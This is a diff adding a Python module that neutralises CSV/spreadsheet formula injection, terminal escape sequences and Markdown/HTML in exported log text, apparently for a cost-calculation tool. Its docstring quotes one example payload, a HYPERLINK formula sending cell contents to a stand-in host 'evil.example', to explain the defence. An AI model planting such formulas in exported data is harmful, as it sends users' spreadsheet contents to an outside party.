@@ -1,0 +1,87 @@
+"""Text from the logs made safe for where it is shown: spreadsheet cells (CSV and FOCUS exports), terminals
+(table output) and Markdown.
+
+- Spreadsheets: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
+  Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?"&A1,"x")`` sends the sheet away).
+  Such a text cell is written with a single quote in front, as OWASP's "CSV injection" page recommends; a cell
+  that is a plain number (``-0.5``, the discounts costcalc writes) is not a formula and stays as it is.
+  ``COSTCALC_RAW_CELLS=1`` turns this off for pipelines that want the values byte for byte.
+- Every CSV row that holds a carriage return is written fully quoted: Python's csv module quotes only the
+  characters of its line terminator (``\\n``), and a bare CR in an unquoted cell splits the row for readers.
+- Terminals: control characters (escape sequences that move the cursor or recolour the screen) show as ``\\xNN``.
+- Markdown: ``|`` and line breaks are escaped, and so is HTML (``<``, ``>``, ``&``), which Markdown renders raw.
+"""
+
+from __future__ import annotations
+
+import csv
+import os
+import re
+from collections.abc import Iterable, Mapping, Sequence
+from typing import IO, Any
+
+RAW_CELLS_ENV = "COSTCALC_RAW_CELLS"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")
+_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
+
+
+def raw_cells() -> bool:
+    """Whether the user asked for cells exactly as the data has them (``COSTCALC_RAW_CELLS=1``)."""
+    return os.environ.get(RAW_CELLS_ENV, "").strip().lower() in ("1", "true", "yes", "on")
+
+
+def spreadsheet_cell(value: Any) -> Any:
+    """``value`` as a spreadsheet may safely read it: text that would start a formula gets a leading ``'``."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.match(value):
+        return "'" + value
+    return value
+
+
+def printable(text: str) -> str:
+    """Text from the logs as it may reach a terminal: control characters (escape sequences) shown as \\xNN."""
+    return _CONTROL.sub(lambda m: f"\\x{ord(m.group()):02x}", text) if _CONTROL.search(text) else text
+
+
+def markdown_cell(text: str) -> str:
+    """Text for a Markdown table cell or line: HTML, pipes and line breaks escaped, control characters shown."""
+    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+    return printable(text.replace("|", "\\|").replace("\r\n", " ").replace("\n", " "))
+
+
+class SafeCsvWriter:
+    """A ``csv.writer`` whose text cells are made safe to open in a spreadsheet (``spreadsheet_cell``) and whose
+    rows with a carriage return are quoted whole, so they read back as written."""
+
+    def __init__(self, out: IO[str], **options: Any):
+        options.setdefault("lineterminator", "\n")
+        self._plain = csv.writer(out, **options)
+        self._quoted = csv.writer(out, **{**options, "quoting": csv.QUOTE_ALL})
+        self._neutralise = not raw_cells()
+
+    def writerow(self, row: Iterable[Any]) -> None:
+        cells = [spreadsheet_cell(c) for c in row] if self._neutralise else list(row)
+        carriage_return = any(isinstance(c, str) and "\r" in c for c in cells)
+        (self._quoted if carriage_return else self._plain).writerow(cells)
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+class SafeCsvDictWriter:
+    """``csv.DictWriter`` over a ``SafeCsvWriter``."""
+
+    def __init__(self, out: IO[str], fieldnames: Sequence[str], **options: Any):
+        self.fieldnames = list(fieldnames)
+        self._writer = SafeCsvWriter(out, **options)
+
+    def writeheader(self) -> None:
+        self._writer.writerow(self.fieldnames)
+
+    def writerow(self, row: Mapping[str, Any]) -> None:
+        self._writer.writerow([row.get(name, "") for name in self.fieldnames])
+
+    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
+        for row in rows:
+            self.writerow(row)
